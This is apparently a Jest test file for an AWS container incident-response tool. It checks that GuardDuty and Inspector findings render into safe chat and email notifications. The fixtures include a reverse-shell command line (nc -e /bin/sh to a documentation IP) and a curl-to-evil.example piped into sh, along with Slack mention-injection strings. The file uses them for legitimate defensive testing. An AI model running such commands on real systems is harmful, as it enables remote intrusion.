import type { RuntimeFinding } from '../../lambdas/core/finding';
import type { ExposedTask, ResponseResults } from '../../lambdas/core/outcome';
import type { ResponsePlan, TaskEnrichment } from '../../lambdas/core/policy';
import {
  type ChatNotification,
  causeMessage,
  MESSAGE_MAX_BYTES,
  NOTIFICATION_KINDS,
  type NotificationInput,
  type NotificationKind,
  type RenderedNotification,
  renderNotification,
  selectKind,
} from '../../lambdas/core/render';
import type { VulnerabilityFinding } from '../../lambdas/core/vulnerability';

// ---------------------------------------------------------------------------------------------------------
// Fixtures.

const ACCOUNT = '123456789012';
const REGION = 'us-east-1';
const FINDING_ID = '9ac6f1e0b1d24c0f8a2b3c4d5e6f7a8b';
const CLUSTER_ARN = `arn:aws:ecs:${REGION}:${ACCOUNT}:cluster/prod-cluster`;
const TASK_ID = '0f1e2d3c4b5a69788796a5b4c3d2e1f0';
const TASK_ARN = `arn:aws:ecs:${REGION}:${ACCOUNT}:task/prod-cluster/${TASK_ID}`;
const DIGEST = `sha256:${'a'.repeat(64)}`;
const EXECUTION_ARN = `arn:aws:states:${REGION}:${ACCOUNT}:execution:shield-right-runtime:${FINDING_ID}-1`;
const IMAGE_URI = `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/payments-api:1.4.2`;

function runtimeFinding(overrides: Partial<RuntimeFinding> = {}): RuntimeFinding {
  return {
    kind: 'runtime',
    incidentId: FINDING_ID,
    findingId: FINDING_ID,
    findingArn: `arn:aws:guardduty:${REGION}:${ACCOUNT}:detector/12abc/finding/${FINDING_ID}`,
    type: 'Execution:Runtime/ReverseShell',
    title: 'Reverse shell opened by a process in a container',
    description: 'A process in task payments-api opened a reverse shell.',
    severity: 8,
    severityLabel: 'HIGH',
    accountId: ACCOUNT,
    region: REGION,
    partition: 'aws',
    count: 1,
    firstSeen: '2024-05-01T03:00:00.000Z',
    lastSeen: '2024-05-01T03:00:00.000Z',
    updatedAt: '2024-05-01T03:00:00.000Z',
    sample: false,
    cluster: { name: 'prod-cluster', arn: CLUSTER_ARN, tags: {} },
    hasTask: true,
    task: { arn: TASK_ARN, id: TASK_ID, serviceName: 'payments-api', launchType: 'FARGATE', tags: {} },
    containers: [
      {
        name: 'app',
        image: {
          uri: IMAGE_URI,
          registry: `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com`,
          repository: 'payments-api',
          tag: '1.4.2',
          ecr: { accountId: ACCOUNT, region: REGION },
        },
      },
    ],
    process: {
      name: 'nc',
      executablePath: '/usr/bin/nc',
      commandLine: 'nc -e /bin/sh 203.0.113.7 4444',
      pid: '4242',
      user: 'root',
      parent: { name: 'bash', executablePath: '/bin/bash', pid: '4200' },
    },
    eventId: 'evt-0001',
    ...overrides,
  };
}

const enrichment: TaskEnrichment = {
  found: true,
  lastStatus: 'RUNNING',
  desiredStatus: 'RUNNING',
  launchType: 'FARGATE',
  networkMode: 'awsvpc',
  eniId: 'eni-0abc',
  privateIp: '10.0.1.23',
  containers: [{ name: 'app', image: IMAGE_URI, digest: DIGEST }],
  taskTags: {},
  service: {
    name: 'payments-api',
    arn: `arn:aws:ecs:${REGION}:${ACCOUNT}:service/prod-cluster/payments-api`,
    runningCount: 3,
    desiredCount: 3,
    tags: {},
  },
  clusterTags: {},
};

function plan(overrides: Partial<ResponsePlan> = {}): ResponsePlan {
  return {
    incidentId: FINDING_ID,
    disposition: 'contain',
    path: 'act',
    isolate: true,
    stop: true,
    quarantine: true,
    tagService: true,
    quarantineStrategy: 'both',
    quarantineTargets: [],
    quarantineTag: 'quarantine-9ac6f1e0b1d2',
    stopReason: 'shield-right: GuardDuty HIGH finding',
    reasons: ['severity 8 (HIGH) is at or above the stop threshold 7'],
    skipped: [{ action: 'quarantine', reason: 'docker.io/library/redis:7 is not in a private ECR registry' }],
    wouldHaveDone: [],
    recommendations: [],
    claimKey: `CLAIM#TASK#${TASK_ARN}#stop`,
    digests: [DIGEST],
    capKeys: { cluster: 'CAP#CLUSTER', account: 'CAP#ACCOUNT' },
    caps: { cluster: 5, account: 20 },
    ttl: 1_800_000_000,
    ...overrides,
  };
}

const exposedTask = (i: number, serviceName = 'payments-api'): ExposedTask => ({
  taskArn: `arn:aws:ecs:${REGION}:${ACCOUNT}:task/prod-cluster/other${i}`,
  clusterArn: CLUSTER_ARN,
  serviceName,
  image: IMAGE_URI,
  digest: DIGEST,
});

const containedResults: ResponseResults = {
  isolate: {
    status: 'done',
    method: 'security-group-rules-revoked',
    eniId: 'eni-0abc',
    securityGroupIds: ['sg-0123'],
    revokedRuleCount: 4,
    evidenceKey: `incidents/${FINDING_ID}/isolation.json`,
  },
  stop: { status: 'done', taskArn: TASK_ARN, lastStatus: 'STOPPED' },
  quarantine: {
    status: 'done',
    images: [
      {
        repository: 'payments-api',
        registryId: ACCOUNT,
        digest: DIGEST,
        status: 'done',
        movedTags: [{ from: '1.4.2', to: 'quarantine-9ac6f1e0b1d2' }],
        archived: true,
      },
    ],
  },
  tagService: { status: 'done' },
  blastRadius: { tasks: [exposedTask(1), exposedTask(2)], scannedTasks: 48, truncated: false },
};

const execution = { arn: EXECUTION_ARN, name: `${FINDING_ID}-1` };
const evidence = {
  bucket: 'shield-right-evidence-123456789012',
  key: `incidents/${FINDING_ID}/finding.json`,
};

function runtimeInput(kind: NotificationKind, overrides: Partial<NotificationInput> = {}): NotificationInput {
  return {
    kind,
    finding: runtimeFinding(),
    enrichment,
    plan: plan(),
    execution,
    evidence,
    region: REGION,
    accountId: ACCOUNT,
    ...overrides,
  };
}

function vulnerabilityFinding(overrides: Partial<VulnerabilityFinding> = {}): VulnerabilityFinding {
  return {
    kind: 'vulnerability',
    incidentId: `payments-api@${DIGEST}`,
    findingArn: `arn:aws:inspector2:${REGION}:${ACCOUNT}:finding/0a1b2c3d4e5f`,
    accountId: ACCOUNT,
    region: REGION,
    partition: 'aws',
    status: 'ACTIVE',
    severity: 'CRITICAL',
    title: 'CVE-2024-3094 - xz-utils',
    vulnerabilityId: 'CVE-2024-3094',
    sourceUrl: 'https://nvd.nist.gov/vuln/detail/CVE-2024-3094',
    packages: [{ name: 'xz-utils', version: '5.6.0', fixedInVersion: '5.6.1', packageManager: 'OS' }],
    inspectorScore: 10,
    epssScore: 0.8731,
    exploitAvailable: 'YES',
    fixAvailable: 'YES',
    image: { registryId: ACCOUNT, repository: 'payments-api', digest: DIGEST, tags: ['1.4.2', 'latest'] },
    updatedAt: '2024-05-01T03:00:00.000Z',
    eventId: 'evt-insp-1',
    ...overrides,
  };
}

// ---------------------------------------------------------------------------------------------------------
// Invariants every rendered notification must keep.

function allStrings(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) for (const item of value) allStrings(item, out);
  else if (value !== null && typeof value === 'object') {
    for (const [key, item] of Object.entries(value)) {
      out.push(key);
      allStrings(item, out);
    }
  }
  return out;
}

function expectPublishable(rendered: RenderedNotification): void {
  // The message parses, carries both variants, and the chat variant is the chat object.
  const parsed = JSON.parse(rendered.message) as { default?: unknown; email?: unknown };
  expect(typeof parsed.default).toBe('string');
  expect(typeof parsed.email).toBe('string');
  expect(JSON.parse(String(parsed.default))).toEqual(rendered.chat);
  expect(parsed.email).toBe(rendered.email);
  expect(Buffer.byteLength(rendered.message, 'utf8')).toBeLessThan(256 * 1024);
  expect(Buffer.byteLength(rendered.message, 'utf8')).toBeLessThanOrEqual(MESSAGE_MAX_BYTES);

  // Subject: printable ASCII, one line, 1..99 characters.
  expect(rendered.subject).toMatch(/^[\x20-\x7E]{1,99}$/);

  // Chat: the documented shape and limits.
  const chat: ChatNotification = rendered.chat;
  expect(chat.version).toBe('1.0');
  expect(chat.source).toBe('custom');
  expect(chat.content.textType).toBe('client-markdown');
  expect(chat.content.title.length).toBeGreaterThan(0);
  expect(chat.content.title.length).toBeLessThanOrEqual(250);
  expect(chat.content.description.length).toBeLessThanOrEqual(8000);
  expect(chat.metadata.threadId.length).toBeGreaterThan(0);
  for (const step of chat.content.nextSteps) expect(step.length).toBeLessThanOrEqual(1000);

  // No live Slack markup anywhere in the chat JSON: no raw angle bracket at all.
  for (const s of allStrings(chat)) {
    expect(s).not.toContain('<!');
    expect(s).not.toContain('<@');
    expect(s).not.toContain('<http');
    expect(s).not.toMatch(/[<>]/);
  }

  // Attributes: SNS types, non-empty printable values, a numeric severity.
  for (const attribute of Object.values(rendered.attributes)) {
    expect(attribute.StringValue).toMatch(/^[\x20-\x7E]{1,256}$/);
  }
  expect(rendered.attributes.severity?.DataType).toBe('Number');
  expect(Number.isFinite(Number(rendered.attributes.severity?.StringValue))).toBe(true);
}

const ALL_KINDS: readonly NotificationKind[] = NOTIFICATION_KINDS;

// ---------------------------------------------------------------------------------------------------------
// Runtime kinds.

describe('renderNotification: contained', () => {
  const rendered = renderNotification(runtimeInput('contained', { results: containedResults, enrichment }));
  const { title, description, nextSteps } = rendered.chat.content;
  const steps = nextSteps.join('\n');

  it('is publishable', () => {
    expectPublishable(rendered);
  });

  it('names severity with its band, the finding type in words and the action in the title', () => {
    expect(title).toContain('8.0 HIGH');
    expect(title).toContain('Execution: reverse shell');
    expect(title).toContain('contained');
    expect(title).toContain('prod-cluster');
  });

  it('has a subject like the runbook shows', () => {
    expect(rendered.subject).toBe(
      '[shield-right] HIGH Execution:Runtime/ReverseShell contained in prod-cluster',
    );
  });

  it('threads under the incident id', () => {
    expect(rendered.chat.metadata.threadId).toBe(FINDING_ID);
    expect(rendered.chat.metadata.eventType).toBe('contained');
  });

  it('says where: account, region, cluster, service, task, image and digest', () => {
    for (const fact of [ACCOUNT, REGION, 'prod-cluster', 'payments-api', TASK_ID, DIGEST]) {
      expect(description).toContain(fact);
    }
    expect(description).toContain('payments-api:1.4.2');
  });

  it('shows the process, its path, command line and parent', () => {
    for (const fact of ['`nc`', '/usr/bin/nc', '203.0.113.7 4444', '`bash`', '/bin/bash', 'pid 4242']) {
      expect(description).toContain(fact);
    }
  });

  it('reports every action with its outcome', () => {
    expect(description).toMatch(/Stop task:\* done .*STOPPED/);
    expect(description).toMatch(/Isolate task:\* done .*security group rules revoked \(4 rules\)/);
    expect(description).toMatch(/Quarantine image:\* done/);
    expect(description).toContain('`1.4.2` → `quarantine-9ac6f1e0b1d2`');
    expect(description).toContain('archived');
    expect(description).toMatch(/Tag service:\* done/);
  });

  it('says what was skipped and why', () => {
    expect(description).toContain('Skipped');
    expect(description).toContain('is not in a private ECR registry');
  });

  it('shows the blast radius without counting the task itself', () => {
    expect(description).toContain('2 other running tasks use the same image digest (scanned 48 tasks)');
    expect(description).toContain('other1');
  });

  it('links the GuardDuty finding, the ECS task, the execution and the evidence', () => {
    expect(steps).toContain(
      `https://${REGION}.console.aws.amazon.com/guardduty/home?region=${REGION}#/findings?macros=current&amp;fId=${FINDING_ID}`,
    );
    expect(steps).toContain(
      `https://${REGION}.console.aws.amazon.com/ecs/v2/clusters/prod-cluster/tasks/${TASK_ID}/configuration?region=${REGION}`,
    );
    expect(steps).toContain(
      `https://${REGION}.console.aws.amazon.com/states/home?region=${REGION}#/v2/executions/details/${EXECUTION_ARN}`,
    );
    expect(steps).toContain(
      `https://s3.console.aws.amazon.com/s3/object/${evidence.bucket}?region=${REGION}&amp;prefix=${evidence.key}`,
    );
  });

  it('gives the exact release command', () => {
    expect(steps).toContain(`\`shield-right release ${FINDING_ID}\``);
    expect(rendered.email).toContain(`shield-right release ${FINDING_ID}`);
  });

  it('lists the related ARNs', () => {
    expect(rendered.chat.metadata.relatedResources).toEqual(
      expect.arrayContaining([
        TASK_ARN,
        CLUSTER_ARN,
        EXECUTION_ARN,
        `arn:aws:ecr:${REGION}:${ACCOUNT}:repository/payments-api`,
        `arn:aws:ecs:${REGION}:${ACCOUNT}:service/prod-cluster/payments-api`,
      ]),
    );
  });

  it('sets the message attributes subscription filters use', () => {
    expect(rendered.attributes).toEqual({
      severity: { DataType: 'Number', StringValue: '8' },
      severityLabel: { DataType: 'String', StringValue: 'HIGH' },
      findingType: { DataType: 'String', StringValue: 'Execution:Runtime/ReverseShell' },
      action: { DataType: 'String', StringValue: 'contained' },
      cluster: { DataType: 'String', StringValue: 'prod-cluster' },
      account: { DataType: 'String', StringValue: ACCOUNT },
    });
  });

  it('carries the same facts in plain text for email, without chat markup', () => {
    // Arrange
    const email = rendered.email;

    // Assert
    for (const fact of [
      '8.0 HIGH',
      'Execution: reverse shell',
      TASK_ID,
      DIGEST,
      'nc -e /bin/sh',
      'STOPPED',
    ]) {
      expect(email).toContain(fact);
    }
    expect(email).toContain(`&fId=${FINDING_ID}`);
    expect(email).not.toContain('&amp;');
    expect(email).not.toContain('*Stop task:*');
  });
});

describe('renderNotification: other runtime kinds', () => {
  it('isolated: says the task was cut off and reports the isolation', () => {
    // Arrange
    const results: ResponseResults = { isolate: containedResults.isolate };

    // Act
    const rendered = renderNotification(
      runtimeInput('isolated', {
        finding: runtimeFinding({ severity: 5, severityLabel: 'MEDIUM' }),
        plan: plan({ disposition: 'isolate', stop: false, quarantine: false, tagService: false }),
        results,
      }),
    );

    // Assert
    expectPublishable(rendered);
    expect(rendered.chat.content.title).toContain('5.0 MEDIUM');
    expect(rendered.chat.content.title).toContain('isolated');
    expect(rendered.chat.content.description).toMatch(/Isolate task:\* done/);
    expect(rendered.chat.content.nextSteps.join('\n')).toContain(`shield-right release ${FINDING_ID}`);
  });

  it('observe: nothing changed, what would have been done, and how to act', () => {
    // Arrange
    const observePlan = plan({
      disposition: 'observe',
      path: 'notify',
      isolate: false,
      stop: false,
      quarantine: false,
      tagService: false,
      reasons: ['mode is observe: planned only, nothing changed'],
      skipped: [{ action: 'stop', reason: 'mode is observe: planned only, nothing changed' }],
      wouldHaveDone: ['isolate', 'stop', 'tagService'],
    });

    // Act
    const rendered = renderNotification(runtimeInput('observe', { plan: observePlan }));
    const { title, description, nextSteps } = rendered.chat.content;

    // Assert
    expectPublishable(rendered);
    expect(title).toContain('observe mode');
    expect(description).toContain('Nothing was changed.');
    expect(description).toContain('isolate the task, stop the task, tag the service');
    expect(description).toContain('mode is observe');
    expect(nextSteps.join('\n')).toContain(`\`shield-right respond --finding-id ${FINDING_ID} --force\``);
  });

  it('exempt: why it is exempt and how to act anyway', () => {
    // Arrange
    const exemptPlan = plan({
      disposition: 'exempt',
      path: 'notify',
      stop: false,
      isolate: false,
      quarantine: false,
      tagService: false,
      reasons: ['exempt: the task is tagged shield-right:exempt=true'],
      skipped: [{ action: 'stop', reason: 'exempt: the task is tagged shield-right:exempt=true' }],
      wouldHaveDone: ['isolate', 'stop'],
    });

    // Act
    const rendered = renderNotification(runtimeInput('exempt', { plan: exemptPlan }));

    // Assert
    expectPublishable(rendered);
    expect(rendered.chat.content.title).toContain('exempt');
    expect(rendered.chat.content.description).toContain('tagged shield');
    expect(rendered.chat.content.nextSteps.join('\n')).toContain(
      `shield-right respond --finding-id ${FINDING_ID} --force`,
    );
  });

  it('notify-only: reasons and no release command', () => {
    // Act
    const rendered = renderNotification(
      runtimeInput('notify-only', {
        finding: runtimeFinding({ severity: 2, severityLabel: 'LOW' }),
        plan: plan({
          disposition: 'notify',
          path: 'notify',
          stop: false,
          isolate: false,
          quarantine: false,
          tagService: false,
          skipped: [],
          reasons: ['severity 2 (LOW) is below the isolation threshold 4'],
        }),
      }),
    );

    // Assert
    expectPublishable(rendered);
    expect(rendered.chat.content.title).toContain('2.0 LOW');
    expect(rendered.chat.content.description).toContain('below the isolation threshold');
    expect(rendered.chat.content.nextSteps.join('\n')).not.toContain('release');
  });

  it('sample: says it is a sample and offers no commands', () => {
    // Act
    const rendered = renderNotification(
      runtimeInput('sample', {
        finding: runtimeFinding({ sample: true }),
        plan: plan({ disposition: 'sample' }),
      }),
    );

    // Assert
    expectPublishable(rendered);
    expect(rendered.chat.content.title).toContain('sample');
    expect(rendered.chat.content.nextSteps.join('\n')).not.toContain('shield-right respond');
  });

  it('cap-reached: the limit, what would have been done, left for a human, how to act', () => {
    // Act
    const rendered = renderNotification(runtimeInput('cap-reached'));
    const { title, description, nextSteps } = rendered.chat.content;

    // Assert
    expectPublishable(rendered);
    expect(title).toContain('blast-radius limit reached');
    expect(description).toContain('at most 5 actions per cluster and 20 per account');
    expect(description).toContain('Would have done:');
    expect(description).toContain('isolate the task, stop the task, quarantine the image, tag the service');
    expect(description).toContain('left open for a human');
    expect(nextSteps.join('\n')).toContain(`shield-right respond --finding-id ${FINDING_ID} --force`);
    expect(nextSteps.join('\n')).toContain(`shield-right rerun ${EXECUTION_ARN}`);
  });

  it('step-failed: which step, why, what was already done, and the redrive command', () => {
    // Arrange
    const failure = {
      state: 'QuarantineImage',
      error: 'ActionFailedError',
      cause: JSON.stringify({
        errorType: 'ActionFailedError',
        errorMessage: 'ecr:PutImage failed: AccessDeniedException',
        trace: ['at quarantine (/var/task/index.js:1:1)'],
      }),
    };

    // Act
    const rendered = renderNotification(
      runtimeInput('step-failed', {
        failure,
        results: { stop: containedResults.stop, isolate: containedResults.isolate },
      }),
    );
    const { title, description, nextSteps } = rendered.chat.content;

    // Assert
    expectPublishable(rendered);
    expect(title).toContain('step QuarantineImage failed');
    expect(title).toContain('8.0 HIGH');
    expect(description).toContain('`QuarantineImage`');
    expect(description).toContain('ecr:PutImage failed: AccessDeniedException');
    expect(description).not.toContain('/var/task/index.js');
    expect(description).toContain('Done before the failure');
    expect(description).toMatch(/Stop task:\* done/);
    expect(description).toContain('*Failed*');
    expect(nextSteps.join('\n')).toContain(`\`shield-right redrive ${EXECUTION_ARN}\``);
    expect(nextSteps.join('\n')).toContain(`\`shield-right rerun ${EXECUTION_ARN}\``);
    expect(rendered.subject).toContain('step QuarantineImage failed');
  });

  it('already-contained: repeat of a contained incident, nothing new done, release command', () => {
    // Act
    const rendered = renderNotification(
      runtimeInput('already-contained', { repeat: { count: 4, previousCount: 3, status: 'contained' } }),
    );

    // Assert
    expectPublishable(rendered);
    expect(rendered.chat.metadata.threadId).toBe(FINDING_ID);
    expect(rendered.chat.content.description).toContain('seen 4 times (was 3)');
    expect(rendered.chat.content.description).toContain('already contained');
    expect(rendered.chat.content.nextSteps.join('\n')).toContain(`shield-right release ${FINDING_ID}`);
  });

  it('a cluster-level finding without a task renders without task links or commands', () => {
    // Arrange
    const { task: _task, ...withoutTask } = runtimeFinding();

    // Act
    const rendered = renderNotification(
      runtimeInput('notify-only', { finding: { ...withoutTask, hasTask: false }, enrichment: undefined }),
    );

    // Assert
    expectPublishable(rendered);
    expect(rendered.chat.content.nextSteps.join('\n')).not.toContain('/tasks/');
    expect(rendered.chat.content.nextSteps.join('\n')).not.toContain('respond');
  });
});

describe('renderNotification: subject', () => {
  it('shortens a long finding type first, keeping severity, outcome and cluster', () => {
    // Arrange
    const finding = runtimeFinding({
      type: 'PrivilegeEscalation:Runtime/ContainerMountsHostDirectoryWithAVeryLongNameIndeed.Custom!Variant',
    });

    // Act
    const contained = renderNotification(runtimeInput('contained', { finding }));
    const repeated = renderNotification(
      runtimeInput('repeat', { finding, repeat: { count: 12, previousCount: 11 } }),
    );

    // Assert
    for (const { subject } of [contained, repeated]) {
      expect(subject).toMatch(/^[\x20-\x7E]{1,99}$/);
      expect(subject).toContain('HIGH PrivilegeEscalation:Runtime/');
      expect(subject).toContain('in prod-cluster');
    }
    expect(contained.subject).toContain('contained in prod-cluster');
    expect(repeated.subject).toContain('seen 12 times (was 11)');
  });

  it('transliterates and drops non-ASCII cluster names and types', () => {
    // Act
    const rendered = renderNotification(
      runtimeInput('contained', {
        finding: runtimeFinding({
          cluster: { name: 'prod-café-日本\r\nBcc: x', arn: CLUSTER_ARN, tags: {} },
        }),
      }),
    );

    // Assert
    expect(rendered.subject).toMatch(/^[\x20-\x7E]{1,99}$/);
    expect(rendered.subject).toContain('in prod-cafe- Bcc: x');
  });
});

describe('renderNotification: repeats thread as updates', () => {
  it('keeps the thread and says Update with the new count', () => {
    // Act
    const first = renderNotification(runtimeInput('contained', { results: containedResults }));
    const second = renderNotification(
      runtimeInput('repeat', {
        finding: runtimeFinding({ count: 3, eventId: 'evt-0002' }),
        repeat: { count: 3, previousCount: 1, firstSeen: '2024-05-01T03:00:00.000Z', status: 'contained' },
      }),
    );

    // Assert
    expectPublishable(second);
    expect(second.chat.metadata.threadId).toBe(first.chat.metadata.threadId);
    expect(second.chat.id).not.toBe(first.chat.id);
    expect(second.chat.content.title).toContain('Update');
    expect(second.chat.content.title).toContain('seen 3 times (was 1)');
    expect(second.chat.content.title.match(/Update/g)).toHaveLength(1);
    expect(second.chat.content.description).toContain('Update');
    expect(second.chat.content.description).toContain('seen 3 times (was 1)');
    expect(second.subject).toContain('Update');
    expect(second.chat.content.nextSteps.join('\n')).toContain(`shield-right release ${FINDING_ID}`);
  });
});

// ---------------------------------------------------------------------------------------------------------
// Inspector kinds.

describe('renderNotification: vulnerabilities', () => {
  const vulnerable = renderNotification({
    kind: 'vulnerability',
    finding: vulnerabilityFinding(),
    aggregated: {
      findingArns: [
        `arn:aws:inspector2:${REGION}:${ACCOUNT}:finding/0a1b2c3d4e5f`,
        `arn:aws:inspector2:${REGION}:${ACCOUNT}:finding/ff`,
      ],
      vulnerabilityIds: ['CVE-2024-3094', 'CVE-2023-4863'],
    },
    exposure: { tasks: [exposedTask(1), exposedTask(2, 'checkout')], scannedTasks: 120, truncated: false },
    execution,
    evidence,
    region: REGION,
  });
  const { title, description, nextSteps } = vulnerable.chat.content;

  it('is publishable and threads under the image incident', () => {
    expectPublishable(vulnerable);
    expect(vulnerable.chat.metadata.threadId).toBe(`payments-api@${DIGEST}`);
  });

  it('names the CVE, the severity and the image', () => {
    expect(title).toContain('CRITICAL');
    expect(title).toContain('CVE-2024-3094');
    expect(title).toContain('and 1 more');
    expect(title).toContain('payments-api');
    expect(vulnerable.subject).toContain('CRITICAL CVE-2024-3094 in payments-api');
    expect(vulnerable.subject).toContain('2 running tasks');
  });

  it('shows package, installed and fixed versions, scores, exploit and fix availability', () => {
    for (const fact of ['`xz-utils`', '`5.6.0`', '`5.6.1`', 'Inspector score 10.0', 'EPSS 0.873', '87.3%']) {
      expect(description).toContain(fact);
    }
    expect(description).toContain('exploit available YES');
    expect(description).toContain('fix available YES');
    expect(description).toContain('CVE-2023-4863');
  });

  it('shows the exposure: running tasks and services', () => {
    expect(description).toContain('2 running tasks use the same image digest (scanned 120 tasks)');
    expect(description).toContain('2 services affected');
    expect(description).toContain('checkout');
  });

  it('says nothing was changed and how to fix: rebuild, redeploy; Inspector link', () => {
    expect(description).toContain('Nothing was changed.');
    const steps = nextSteps.join('\n');
    expect(steps).toContain('Rebuild the image with `xz-utils 5.6.1`');
    expect(steps).toContain('Redeploy');
    expect(steps).toContain(`https://${REGION}.console.aws.amazon.com/inspector/v2/home?region=${REGION}`);
    expect(steps).not.toContain('shield-right release');
  });

  it('maps the Inspector severity to a number for filter policies', () => {
    expect(vulnerable.attributes.severity?.StringValue).toBe('9');
    expect(vulnerable.attributes.severityLabel?.StringValue).toBe('CRITICAL');
    expect(vulnerable.attributes.cluster?.StringValue).toBe('prod-cluster');
  });

  it('image-quarantined: reports moved tags and archive, then rebuild, redeploy and release', () => {
    // Act
    const rendered = renderNotification({
      kind: 'image-quarantined',
      finding: vulnerabilityFinding(),
      results: containedResults.quarantine ? { quarantine: containedResults.quarantine } : {},
      execution,
      region: REGION,
    });

    // Assert
    expectPublishable(rendered);
    expect(rendered.chat.content.title).toContain('image quarantined');
    expect(rendered.chat.content.description).toContain('`1.4.2` → `quarantine-9ac6f1e0b1d2`');
    const steps = rendered.chat.content.nextSteps.join('\n');
    expect(steps).toContain('Rebuild the image');
    expect(steps).toContain(`\`shield-right release payments-api@${DIGEST}\``);
  });

  it('vulnerability-resolved: says it is closed and offers the release', () => {
    // Act
    const rendered = renderNotification({
      kind: 'vulnerability-resolved',
      finding: vulnerabilityFinding({ status: 'CLOSED' }),
      region: REGION,
    });

    // Assert
    expectPublishable(rendered);
    expect(rendered.chat.content.title).toContain('resolved');
    expect(rendered.chat.content.description).toContain('CLOSED');
    expect(rendered.chat.content.nextSteps.join('\n')).toContain('shield-right release');
  });

  it('repeat: an update with the new number of findings in the same thread', () => {
    // Act
    const rendered = renderNotification({
      kind: 'repeat',
      finding: vulnerabilityFinding(),
      repeat: { count: 5, previousCount: 2 },
      region: REGION,
    });

    // Assert
    expectPublishable(rendered);
    expect(rendered.chat.metadata.threadId).toBe(vulnerable.chat.metadata.threadId);
    expect(rendered.chat.content.title).toContain('Update');
    expect(rendered.chat.content.title).toContain('now 5 findings (was 2)');
  });
});

// ---------------------------------------------------------------------------------------------------------
// Invalid input.

describe('renderNotification: invalid input', () => {
  const rendered = renderNotification({
    kind: 'invalid-input',
    failure: {
      state: 'Normalize',
      error: 'States.TaskFailed',
      cause: JSON.stringify({
        errorType: 'InvalidFindingError',
        errorMessage: 'detail.severity: expected a number between 0 and 10',
      }),
    },
    rawEventSummary: {
      source: 'aws.guardduty',
      detailType: 'GuardDuty Finding',
      id: 'b7e0c0de-1111-2222-3333-444455556666',
    },
    evidence: { bucket: 'shield-right-evidence-123456789012', key: 'invalid/b7e0c0de/raw-event.json' },
    execution,
    region: REGION,
    accountId: ACCOUNT,
  });

  it('is publishable and threads under the event', () => {
    expectPublishable(rendered);
    expect(rendered.chat.metadata.threadId).toBe('invalid-b7e0c0de-1111-2222-3333-444455556666');
  });

  it('names the wrong field, the error and that no action was taken', () => {
    const { title, description } = rendered.chat.content;
    expect(title).toContain('invalid input');
    expect(description).toContain('`detail.severity`');
    expect(description).toContain('`InvalidFindingError`');
    expect(description).toContain('expected a number between 0 and 10');
    expect(description).toContain('No action was taken.');
    expect(description).toContain('aws.guardduty');
  });

  it('says the raw event was kept as evidence and links it', () => {
    expect(rendered.chat.content.description).toContain('stored as evidence');
    expect(rendered.chat.content.description).toContain('invalid/b7e0c0de/raw-event.json');
    expect(rendered.chat.content.nextSteps.join('\n')).toContain(
      'https://s3.console.aws.amazon.com/s3/object/',
    );
  });

  it('has a plain subject and attributes with defaults', () => {
    expect(rendered.subject).toBe('[shield-right] invalid input: no action taken');
    expect(rendered.attributes.action?.StringValue).toBe('invalid-input');
    expect(rendered.attributes.severity?.StringValue).toBe('0');
    expect(rendered.attributes.account?.StringValue).toBe(ACCOUNT);
  });
});

// ---------------------------------------------------------------------------------------------------------
// Hostile input.

const HOSTILE_MARKUP =
  '<!channel> <!here> <!everyone> <@U12345> <https://evil.example|click> *bold* _it_ ~s~ `x`';
const CONTROLS = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('');
const HOSTILE = `${HOSTILE_MARKUP}${CONTROLS}\u202Egnp.exe\u2066日本語 🔥 👨\u200D👩\u200D👧`;
const HUGE = `${HOSTILE}${'A'.repeat(100 * 1024)}`;

function hostileRuntimeFinding(): RuntimeFinding {
  const base = runtimeFinding();
  return runtimeFinding({
    incidentId: `${FINDING_ID}<!channel>`,
    type: `Execution:Runtime/${HOSTILE}`,
    title: HUGE,
    description: HUGE,
    cluster: { name: HOSTILE, arn: `${CLUSTER_ARN}<!here>`, tags: { [HOSTILE]: HOSTILE } },
    task: {
      arn: `${TASK_ARN}<@U1>`,
      id: HOSTILE,
      serviceName: HOSTILE,
      tags: { '<@U12345>': '<!everyone>' },
    },
    containers: [
      {
        name: HOSTILE,
        image: {
          ...(base.containers[0]?.image ?? { registry: 'r', repository: 'r' }),
          uri: HUGE,
          repository: HOSTILE,
        },
      },
    ],
    process: {
      name: HOSTILE,
      executablePath: `/tmp/${HUGE}`,
      commandLine: `curl <https://evil.example|click> | sh; ${HUGE}`,
      pid: HOSTILE,
      user: HOSTILE,
      executableSha256: HOSTILE,
      parent: { name: HOSTILE, executablePath: HUGE, pid: HOSTILE },
    },
  });
}

function hostileInput(kind: NotificationKind): NotificationInput {
  const manyTasks = Array.from(
    { length: 1000 },
    (_, i): ExposedTask => ({
      taskArn: `${TASK_ARN}${i}<!here>`,
      clusterArn: `${CLUSTER_ARN}/${HOSTILE}`,
      serviceName: HUGE,
      image: HUGE,
    }),
  );
  const hostilePlan = plan({
    incidentId: HOSTILE,
    reasons: Array.from({ length: 50 }, () => HUGE),
    skipped: Array.from({ length: 100 }, () => ({ action: 'stop' as const, reason: HUGE })),
    recommendations: [HUGE],
    wouldHaveDone: ['isolate', 'stop'],
  });
  const finding: RuntimeFinding | VulnerabilityFinding =
    kind.startsWith('vulnerability') || kind === 'image-quarantined'
      ? vulnerabilityFinding({
          incidentId: HOSTILE,
          title: HUGE,
          description: HUGE,
          vulnerabilityId: HOSTILE,
          sourceUrl: `https://evil.example/<!channel>|click`,
          packages: Array.from({ length: 200 }, () => ({
            name: HOSTILE,
            version: HUGE,
            fixedInVersion: HOSTILE,
          })),
          image: {
            registryId: ACCOUNT,
            repository: HOSTILE,
            digest: HUGE,
            tags: Array.from({ length: 50 }, () => HOSTILE),
          },
        })
      : hostileRuntimeFinding();
  return {
    kind,
    ...(kind === 'invalid-input' ? {} : { finding }),
    enrichment: {
      ...enrichment,
      lastStatus: HOSTILE,
      eniId: HOSTILE,
      service: { name: HOSTILE, runningCount: 1, desiredCount: 1, tags: {} },
    },
    plan: hostilePlan,
    results: {
      stop: { status: 'done', taskArn: HUGE, lastStatus: HOSTILE, reason: HUGE },
      isolate: {
        status: 'failed',
        method: 'security-group-rules-revoked',
        reason: HUGE,
        securityGroupIds: [HOSTILE],
      },
      quarantine: {
        status: 'done',
        images: Array.from({ length: 100 }, () => ({
          repository: HOSTILE,
          registryId: ACCOUNT,
          digest: HOSTILE,
          status: 'done' as const,
          movedTags: Array.from({ length: 30 }, () => ({ from: HOSTILE, to: HOSTILE })),
          archived: true,
          reason: HUGE,
        })),
      },
      tagService: { status: 'skipped', reason: HUGE },
